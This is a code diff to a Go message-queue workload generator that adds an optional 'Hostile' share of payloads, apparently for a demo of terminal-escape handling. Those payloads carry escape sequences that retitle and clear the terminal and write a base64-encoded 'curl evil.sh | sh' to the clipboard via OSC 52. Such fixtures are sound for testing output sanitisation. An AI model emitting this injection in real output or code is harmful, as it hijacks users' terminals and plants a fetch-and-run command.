@@ -30,6 +30,7 @@ type Config struct {
 	Lease     time.Duration // lease of a claim [2s]
 	WorkMax   time.Duration // a normal job's work takes up to this [50ms]
 	Reaper    time.Duration // requeue-expired every so often; 0: no reaper
+	Hostile   float64       // share of payloads full of terminal escapes (for the demo)
 	// OnAck, when set, is called for every successful ack.
 	OnAck func(queue, id string)
 }
@@ -160,6 +161,9 @@ func (w *Workload) produce(ctx context.Context, r *rand.Rand) {
 				}
 				q := w.pick(r)
 				payload := fmt.Sprintf(`{"queue":%q,"n":%d,"amount":%d.%02d}`, q, r.IntN(1e6), r.IntN(500), r.IntN(100))
+				if r.Float64() < w.cfg.Hostile {
+					payload = "\x1b]0;owned\x07\x1b[2J\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07" + payload
+				}
 				if _, err := echomq.Enqueue(ctx, w.c, q, []byte(payload)); err != nil {
 					w.fail(err)
 					continue
